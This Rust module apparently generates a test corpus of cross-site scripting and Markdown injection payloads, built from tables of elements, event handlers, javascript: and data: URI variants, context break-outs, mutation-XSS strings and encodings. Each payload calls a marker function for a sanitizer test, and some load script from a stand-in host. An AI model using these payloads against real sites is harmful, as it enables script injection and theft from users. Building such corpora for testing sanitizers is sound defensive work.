//! Tricks of cross-site scripting and of Markdown, made from tables: what runs, where it is put, and how it is written.
//!
//! The tables follow the classes of OWASP's XSS Filter Evasion Cheat Sheet (elements, handlers, schemes, encodings, broken
//! tags), the HTML5 Security Cheatsheet (newer elements, `SVG` and `MathML`, forms), `PortSwigger`'s XSS cheat sheet (handlers that
//! need nobody's help, template and attribute break-outs), and `CommonMark`'s chapters on links, autolinks, images, raw HTML
//! and code blocks. Each would call `hacked()`, which tells the test.

/// Elements that have run scripts in one browser or another.
const ELEMENTS: &[&str] = &[
    "a",
    "audio src",
    "body",
    "button",
    "details open",
    "div",
    "embed src=x",
    "form",
    "frameset",
    "iframe",
    "img src=x",
    "input autofocus",
    "isindex",
    "link rel=stylesheet href=x",
    "marquee",
    "math",
    "meta",
    "object data=x",
    "select autofocus",
    "style",
    "svg",
    "svg><animate",
    "svg><set",
    "table",
    "template",
    "textarea autofocus",
    "video src=x",
    "xss tabindex=1",
];

/// Handlers that need no or little help of a user's.
const HANDLERS: &[&str] = &[
    "onload",
    "onerror",
    "onfocus",
    "onblur",
    "onclick",
    "onmouseover",
    "onpointerenter",
    "onanimationstart",
    "ontransitionend",
    "ontoggle",
    "onbegin",
    "onend",
    "onstart",
    "onfinish",
    "onloadstart",
    "oncanplay",
    "onpageshow",
    "onhashchange",
    "onscroll",
    "onwheel",
    "oninput",
    "oninvalid",
    "oncopy",
    "onpaste",
    "onbeforetoggle",
    "onscrollsnapchange",
    "oncontentvisibilityautostatechange",
    "onsecuritypolicyviolation",
];

/// Addresses that run instead of leading somewhere.
const ADDRESSES: &[&str] = &[
    "javascript:hacked()",
    "JaVaScRiPt:hacked()",
    "javascript&colon;hacked()",
    "javascript&#58;hacked()",
    "javascript&#x3a;hacked()",
    "javascript&#0000058hacked()",
    "&#106;avascript:hacked()",
    "&#x6A;avascript:hacked()",
    "java\tscript:hacked()",
    "java&Tab;script:hacked()",
    "java&NewLine;script:hacked()",
    "java%0ascript:hacked()",
    "\u{1}javascript:hacked()",
    "\u{a0}javascript:hacked()",
    "%20javascript:hacked()",
    "javascript:%68acked()",
    "javascript://example.org/%0ahacked()",
    "javascript:/*--></title>*/hacked()",
    "javascript:`${hacked()}`",
    "vbscript:hacked()",
    "livescript:hacked()",
    "mocha:hacked()",
    "view-source:javascript:hacked()",
    "jar:javascript:hacked()",
    "data:text/html,<script>hacked()</script>",
    "data:text/html;base64,PHNjcmlwdD5oYWNrZWQoKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=hacked()>",
    "data:application/xhtml+xml,<x/>",
    "blob:null/hacked",
    "filesystem:hacked",
    "//evil.example/hacked.js",
    "\\\\evil.example\\hacked",
    "https:evil.example",
    "https://evil.example@javascript:hacked()",
    "mailto:x?body=<script>hacked()</script>",
    "ｊavascript:hacked()",
    "feed:javascript:hacked()",
    "about:blank#hacked()",
];

/// Where Markdown and HTML take an address. `%` is the address.
const LINKS: &[&str] = &[
    "[x](%)",
    "[x](<%>)",
    "[x](% \"title\")",
    "![x](%)",
    "[![x](%)](%)",
    "[x][r]\n\n[r]: %",
    "[r]\n\n[r]: <%> 'title'",
    "<%>",
    "[x](%\n)",
    "|a|\n|-|\n|[x](%)|",
    "> - [x](%)",
    "# [x](%)",
    "[x]: % \"</a><script>hacked()</script>\"",
    "[`x`](%)",
    "<a href=\"%\">x</a>",
    "<a href='%' target=_top>x</a>",
    "<a href=%>x",
    "<iframe src=\"%\">",
    "<form action=\"%\"><button>x",
    "<button formaction=\"%\">x",
    "<object data=\"%\">",
    "<svg><a xlink:href=\"%\"><text y=9>x",
    "<math href=\"%\">x",
    "<base href=\"%//\">",
    "<meta http-equiv=refresh content=\"0;url=%\">",
    "<link rel=import href=\"%\">",
    "<img src=\"%\" srcset=\"% 1x\">",
    "<video poster=\"%\">",
    "<body background=\"%\">",
    "<style>@import '%';</style>",
];

/// What ends the place that a text stands in.
const BREAKOUTS: &[&str] = &[
    "%",
    "\">%",
    "'>%",
    "`>%",
    "</textarea>%",
    "</title>%",
    "</style>%",
    "</script>%",
    "</noscript>%",
    "</template>%",
    "</xmp>%",
    "-->%",
    "--!>%",
    "]]>%",
    "?>%",
    "<!--%-->",
    "<![CDATA[%]]>",
    "<?xml %?>",
    "```\n%\n```",
    "```%\nx\n```",
    "~~~ %\nx",
    "    %",
    "`%`",
    "``%",
    "\\%",
    "&lt;%",
    "\0%",
    "\u{202e}%",
    "[%](x)",
    "**%",
    "|%|\n|-|\n|%|",
    "1. %",
    "> %",
    "[^1]\n\n[^1]: %",
    "- [ ] %",
    "\u{feff}%",
    "\r%",
    "\u{2028}%",
];

/// Scripts in full.
const SCRIPTS: &[&str] = &[
    "<script>hacked()</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script/x>hacked()</script>",
    "<script\n>hacked()</script\n>",
    "<<script>hacked();//<</script>",
    "<scr<script>ipt>hacked()</scr</script>ipt>",
    "<script type=module>hacked()</script>",
    "<svg><script>hacked()</script></svg>",
    "<svg/onload=hacked()>",
    "<img src=x onerror=hacked()>",
    "<img src=x onerror=hacked()//",
    "<img \"\"\"><script>hacked()</script>\">",
    "<iframe srcdoc=\"<script>parent.hacked()</script>\">",
    "<math><mtext></table><mglyph><style><!--</style><img src onerror=hacked()>",
    "<noscript><p title=\"</noscript><img src=x onerror=hacked()>\">",
    "<template><script>hacked()</script></template>",
    "<svg><style>{font-family:'<iframe/onload=hacked()>'",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=hacked()>",
    "' onfocus=hacked() autofocus x='",
    "\" onfocus=hacked() autofocus x=\"",
    "';hacked();//",
    "\\\";hacked();//",
    "${hacked()}",
    "{{constructor.constructor('hacked()')()}}",
    "<%= hacked() %>",
    "#{hacked()}",
    "[[${hacked()}]]",
    "__proto__",
    "constructor",
    "{\"__proto__\":{\"innerHTML\":\"<img src=x onerror=hacked()>\"}}",
    "@import 'javascript:hacked()';",
    "*{x:expression(hacked())}",
];

/// Ways to write the same once more. The first leaves it as it is.
const WRITINGS: &[fn(&str) -> String] = &[
    str::to_owned,
    str::to_uppercase,
    |text| each(text, |letter| format!("&#{};", u32::from(letter))),
    |text| each(text, |letter| format!("&#x{:x}", u32::from(letter))),
    |text| each(text, |letter| format!("%{:02x}", u32::from(letter))),
    |text| each(text, |letter| format!("%25{:02X}", u32::from(letter))),
    |text| each(text, |letter| format!("\\u{:04x}", u32::from(letter))),
    |text| each(text, |letter| format!("\\x{:02x}", u32::from(letter))),
    |text| text.replace('<', "+ADw-").replace('>', "+AD4-"),
    |text| text.replace('<', "＜").replace('>', "＞"),
    |text| text.replace('<', "&lt").replace('>', "&gt"),
    |text| text.replace('<', "<\0"),
    |text| text.replace('c', "c\u{200b}"),
];

fn each(text: &str, write: fn(char) -> String) -> String {
    text.chars().map(write).collect()
}

/// All of them.
pub(crate) fn tricks() -> Vec<String> {
    let elements = ELEMENTS
        .iter()
        .flat_map(|element| HANDLERS.iter().map(move |handler| format!("<{element} {handler}=hacked()>x")));
    let links =
        LINKS.iter().flat_map(|place| ADDRESSES.iter().map(move |address| place.replace('%', address)));
    let breakouts =
        BREAKOUTS.iter().flat_map(|place| SCRIPTS.iter().map(move |script| place.replace('%', script)));
    let writings = WRITINGS.iter().flat_map(|write| SCRIPTS.iter().map(move |script| write(script)));
    elements.chain(links).chain(breakouts).chain(writings).collect()
}
